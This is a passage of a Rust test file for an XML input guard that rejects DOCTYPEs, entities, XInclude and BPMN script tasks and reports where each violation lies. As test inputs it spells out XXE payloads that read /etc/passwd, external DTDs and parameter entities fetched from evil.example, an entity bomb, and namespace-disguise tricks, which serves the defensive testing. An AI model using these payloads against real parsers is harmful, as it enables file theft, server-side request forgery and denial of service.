                MISMATCH,
            ),
            (
                "US-ASCII declared, other bytes",
                decl("US-ASCII").replace("<r/>", "<r>é</r>").into_bytes(),
                None,
                MISMATCH,
            ),
            (
                "US-ASCII charset, other bytes",
                "<r>é</r>".into(),
                Some("us-ascii"),
                MISMATCH,
            ),
            // Near misses: sources that agree.
            (
                "UTF-8 declared, US-ASCII charset",
                decl("UTF-8").into_bytes(),
                Some("us-ascii"),
                OK,
            ),
            (
                "UTF-16 declared, UTF-16LE BOM and charset",
                utf16(&decl("UTF-16"), true, true),
                Some("utf-16le"),
                OK,
            ),
        ],
    );
}

#[test]
fn inspect_str_reads_text_as_utf8() {
    let inspector = XmlInspector::new(XmlPolicy::default());
    let code = |text: &str| outcome(&inspector.inspect_str(text));
    assert_eq!(code(BPMN), OK);
    assert_eq!(
        code("<?xml version=\"1.0\" encoding=\"UTF-8\"?><r>é</r>"),
        OK
    );
    assert_eq!(code("\u{FEFF}<r/>"), OK);
    // Text is characters already: the engine's parser reads it from a
    // StringReader and ignores the label, and so does the guard.
    assert_eq!(
        code("<?xml version=\"1.0\" encoding=\"UTF-16\"?><r>é</r>"),
        OK
    );
    assert_eq!(code("<?xml version='1.0' encoding='utf-16le'?><r/>"), OK);
    assert_eq!(
        code("<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r>é</r>"),
        OK
    );
    assert_eq!(
        code("<?xml version=\"1.0\" encoding=\"EBCDIC-CP-US\"?><r/>"),
        OK
    );
    // But the declaration must still be one.
    assert_eq!(code("<?xml version=\"1.0\" encoding=\"\"?><r/>"), MALFORMED);
    assert_eq!(code("<?xml encoding=\"UTF-8\"?><r/>"), MALFORMED);
    assert_eq!(
        code("<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE r><r/>"),
        DOCTYPE
    );
    assert_eq!(
        code("<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///x'>]><r>&x;</r>"),
        DOCTYPE
    );
    // UTF-16 code units smuggled in as characters: NULs, not a DOCTYPE.
    let smuggled: String = utf16("<!DOCTYPE r><r/>", true, false)
        .iter()
        .map(|&b| char::from(b))
        .collect();
    assert_eq!(code(&smuggled), MALFORMED);
}

// ---------------------------------------------------------------- locations

#[test]
fn violations_name_the_element_path_and_offset() {
    let defaults = XmlPolicy::default();
    let camunda = camunda();

    let script = bpmn_with("<bpmn:scriptTask id=\"s\" scriptFormat=\"groovy\"/>");
    let scripttask = at(&script, "<bpmn:scriptTask");
    rejected_at(
        &camunda,
        &script,
        FORBIDDEN_ELEMENT,
        "/definitions/process/scriptTask",
        scripttask,
    );

    let resource =
        bpmn_with("<bpmn:serviceTask id=\"x\" camunda:resource=\"deployment://a.groovy\"/>");
    rejected_at(
        &camunda,
        &resource,
        FORBIDDEN_ATTRIBUTE,
        "/definitions/process/serviceTask/@camunda:resource",
        at(&resource, "camunda:resource"),
    );

    let pom = POM.replace("https://maven.apache.org", "file:///etc");
    rejected_at(
        &defaults,
        &pom,
        SCHEMA,
        "/project/@xsi:schemaLocation",
        at(&pom, "xsi:schemaLocation"),
    );

    rejected_at(
        &defaults,
        "<?xml version=\"1.0\"?>\n<!DOCTYPE r><r/>",
        DOCTYPE,
        "/",
        22,
    );
    rejected_at(&defaults, "<r><a>x<!DOCTYPE r></a></r>", DOCTYPE, "/r/a", 7);

    let text = "<r><a>text &xxe;</a></r>";
    rejected_at(&defaults, text, ENTITY, "/r/a", at(text, "&xxe;"));
    let attribute = "<r><a id=\"1\" title=\"x &xxe;\"/></r>";
    rejected_at(
        &defaults,
        attribute,
        ENTITY,
        "/r/a/@title",
        at(attribute, "&xxe;"),
    );

    let xinclude = format!("<r xmlns:xi=\"{XI}\"><a><xi:include href=\"x\"/></a></r>");
    rejected_at(
        &defaults,
        &xinclude,
        XINCLUDE,
        "/r/a/include",
        at(&xinclude, "<xi:include"),
    );

    rejected_at(&defaults, "<a><b></a>", MALFORMED, "/a/b", 6);
    rejected_at(&defaults, "<a><b>", MALFORMED, "/a/b", 6);
    rejected_at(&defaults, "<a/><b/>", MALFORMED, "/", 4);
    rejected_at(&defaults, "<a>\0</a>", MALFORMED, "/", 3);
    let v = rejected(&defaults, b"<a>ok\xFF</a>", MALFORMED);
    assert_eq!(v.offset(), Some(5), "{v}");

    // Offsets count the UTF-8 byte order mark...
    rejected_at(&defaults, "\u{FEFF}<r>&x;</r>", ENTITY, "/r", 6);
    // ...and are in the UTF-8 transcoding for UTF-16 (without its BOM).
    let doc16 = format!("{DECL16}<r><é>&x;</é></r>");
    for (le, bom) in [(true, true), (false, true), (true, false), (false, false)] {
        let v = rejected(&defaults, &utf16(&doc16, le, bom), ENTITY);
        let expected = ("/r/é", Some(at(&doc16, "&x;")));
        assert_eq!(
            (v.location(), v.offset()),
            expected,
            "le={le} bom={bom}: {v}"
        );
    }
}

#[test]
fn characters_xml_forbids_in_text() {
    let p = XmlPolicy::default();
    check(
        &p,
        &[
            ("`]]>` in text", "<r>a]]>b</r>", MALFORMED),
            ("`]]` without `>`", "<r>a]]b ]]&gt;</r>", OK),
            ("U+FFFE", "<r>a\u{FFFE}</r>", MALFORMED),
            ("U+FFFF in a value", "<r a=\"\u{FFFF}\"/>", MALFORMED),
            ("U+FFFD", "<r a=\"\u{FFFD}\">\u{FFFD}</r>", OK),
            (
                "leading zeros in a char ref",
                "<r>&#x0000000041;&#00065;</r>",
                OK,
            ),
            ("char ref past U+10FFFF", "<r>&#x0000110000;</r>", ENTITY),
        ],
    );
}

/// `[xml] allow_doctype`: a DOCTYPE whose internal subset only declares
/// elements and attribute lists passes; whatever a DTD can do to the
/// document (external subsets, entities, notations, parameter entities,
/// attribute defaults) is refused still.
#[test]
fn allow_doctype_admits_only_declarations_that_change_nothing() {
    let harmless = [
        ("bare", "<!DOCTYPE r><r/>"),
        (
            "element declarations",
            "<?xml version=\"1.0\"?>\n<!DOCTYPE r [\n  <!ELEMENT r (a*)>\n  <!ELEMENT a (#PCDATA)>\n]>\n<r><a>x</a></r>",
        ),
        (
            "CDATA attribute lists without defaults",
            "<!DOCTYPE r [<!ATTLIST r id CDATA #REQUIRED kind CDATA #IMPLIED>]><r id=\"a\"/>",
        ),
        (
            "comments and processing instructions",
            "<!-- c --><!DOCTYPE r [<!-- inside --><?app data?>]><?after x?><r/>",
        ),
        ("name other than the root's", "<!DOCTYPE other><r/>"),
    ];
    let allowed = policy(|p| p.allow_doctype = true);
    let by_default: Vec<_> = harmless.iter().map(|&(n, d)| (n, d, DOCTYPE)).collect();
    check(&XmlPolicy::default(), &by_default);
    let passing: Vec<_> = harmless.iter().map(|&(n, d)| (n, d, OK)).collect();
    check(&allowed, &passing);
    check(
        &allowed,
        &[
            (
                "external subset",
                "<!DOCTYPE r SYSTEM \"http://evil.example/x.dtd\"><r/>",
                DOCTYPE,
            ),
            (
                "public identifier",
                "<!DOCTYPE r PUBLIC \"-//X//EN\" \"x.dtd\"><r/>",
                DOCTYPE,
            ),
            (
                "external entity",
                "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
                DOCTYPE,
            ),
            (
                "entity bomb",
                "<!DOCTYPE r [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;\">]><r>&b;</r>",
                DOCTYPE,
            ),
            (
                "parameter entity",
                "<!DOCTYPE r [<!ENTITY % p SYSTEM \"http://evil.example/p\"> %p;]><r/>",
                DOCTYPE,
            ),
            (
                "notation",
                "<!DOCTYPE r [<!NOTATION n SYSTEM \"http://evil.example/n\">]><r/>",
                DOCTYPE,
            ),
            (
                "default xmlns puts elements in XInclude",
                "<!DOCTYPE include [<!ATTLIST include xmlns CDATA #FIXED \"http://www.w3.org/2001/XInclude\" href CDATA #IMPLIED>]><include href=\"file:///etc/passwd\"/>",
                DOCTYPE,
            ),
            (
                "default schema location",
                "<!DOCTYPE r [<!ATTLIST r xsi:schemaLocation CDATA 'urn:x http://10.0.0.1/x.xsd'>]><r/>",
                DOCTYPE,
            ),
            (
                "NMTOKEN xmlns trims a disguised BPMN namespace",
                "<!DOCTYPE definitions [<!ATTLIST scriptTask xmlns NMTOKEN #IMPLIED>]><definitions xmlns=\"http://www.omg.org/spec/BPMN/20100524/MODEL\"><process id=\"p\"><scriptTask xmlns=\" http://www.omg.org/spec/BPMN/20100524/MODEL\"/></process></definitions>",
                DOCTYPE,
            ),
            (
                "NMTOKEN xmlns:xi trims a disguised XInclude namespace",
                "<!DOCTYPE r [<!ATTLIST xi:include xmlns:xi NMTOKEN #IMPLIED>]><r><xi:include xmlns:xi=\" http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/></r>",
                DOCTYPE,
            ),
            (
                "ID attributes are normalised too",
                "<!DOCTYPE r [<!ATTLIST r id ID #IMPLIED>]><r id=\" a \"/>",
                DOCTYPE,
            ),
            (
                "enumerations are normalised too",
                "<!DOCTYPE r [<!ATTLIST r k (a|b) #IMPLIED>]><r k=\"a\"/>",
                DOCTYPE,
            ),
            ("lower-case doctype", "<!doctype r><r/>", DOCTYPE),
            (
                "undeclared entity reference",
                "<!DOCTYPE r [<!ELEMENT r ANY>]><r>&x;</r>",
                ENTITY,
            ),
            ("two DOCTYPEs", "<!DOCTYPE r><!DOCTYPE r><r/>", MALFORMED),
            ("after the root", "<r/><!DOCTYPE r>", MALFORMED),
            ("inside the root", "<r><!DOCTYPE r></r>", MALFORMED),
            ("not closed", "<!DOCTYPE r [<!ELEMENT r ANY>", MALFORMED),
            ("junk in the subset", "<!DOCTYPE r [r]><r/>", MALFORMED),
        ],
    );
    // The key in a policy file.
    let policy = input_guard::policy::Policy::from_toml("[xml]\nallow_doctype = true\n")
        .unwrap_or_else(|e| panic!("{e}"));
    assert!(policy.xml.allow_doctype);
    assert!(!input_guard::policy::Policy::default().xml.allow_doctype);
}
